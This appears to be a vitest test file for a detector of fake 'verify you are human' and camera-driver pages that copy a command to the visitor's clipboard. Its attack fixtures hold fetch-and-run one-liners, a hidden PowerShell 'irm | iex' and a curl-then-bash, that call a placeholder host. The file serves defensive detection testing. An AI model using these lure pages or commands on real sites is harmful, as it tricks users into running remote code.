import { expect, test } from 'vitest'
import { fileOf, hits } from '../testing.ts'
import detector from './page-fake-check.ts'

const titles = async (page: string) =>
  hits(detector, await fileOf('page.html', page)).map(({ title }) => title)
const page = (body: string, script: string) =>
  `<!doctype html><html><head><title>Page</title></head><body>\n${body}\n<script>\n${script}\n</script></body></html>`

test.each([
  [
    'a robot check',
    page(
      '<h1>Verify you are human</h1><p>I am not a robot</p>',
      "b.onclick = () => navigator.clipboard.writeText('powershell -w h -c irm https://a.invalid/x ^| iex')",
    ),
    'command',
  ],
  [
    'a camera',
    page(
      '<p>Your camera is blocked. Update the driver.</p>',
      "b.onclick = () => navigator.clipboard.writeText('curl -k -o /var/tmp/c.sh https://a.invalid/c && bash /var/tmp/c.sh')",
    ),
    'command',
  ],
])('attack: %s', async (_, html, signal) => {
  expect(await titles(html)).toContain(detector.signals[signal]?.title)
})

test.each([
  ['a real check', page('<p>Verify you are human</p>', 'fetch("/captcha")')],
  [
    'a manual of a captcha',
    page(
      '<p>Add our captcha</p><pre>npm install own-captcha</pre>',
      "b.onclick = () => navigator.clipboard.writeText('npm install own-captcha')",
    ),
  ],
])('innocent: %s', async (_, html) => {
  expect(await titles(html)).toEqual([])
})
